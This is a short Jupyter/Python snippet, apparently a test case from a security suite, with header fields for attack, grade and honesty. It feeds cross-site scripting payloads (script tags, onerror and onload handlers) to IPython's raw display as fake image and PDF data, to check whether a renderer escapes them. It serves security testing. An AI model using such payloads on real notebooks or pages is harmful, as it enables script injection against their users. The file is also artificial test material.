# attack: what says that it is a picture is markup that ends the attribute it is put into
# wants: feedback
# grade: 0
# honest: 0
# %%
from IPython.display import display
for kind in ("image/png", "image/jpeg", "application/pdf", "image/gif", "image/webp"):
    display({kind: '"><script>alert(1)</script><img src=x onerror=alert(1)>'}, raw=True)
display({"image/png": "AAAA"}, metadata={"image/png": {"width": '1" onload="alert(1)'}}, raw=True)
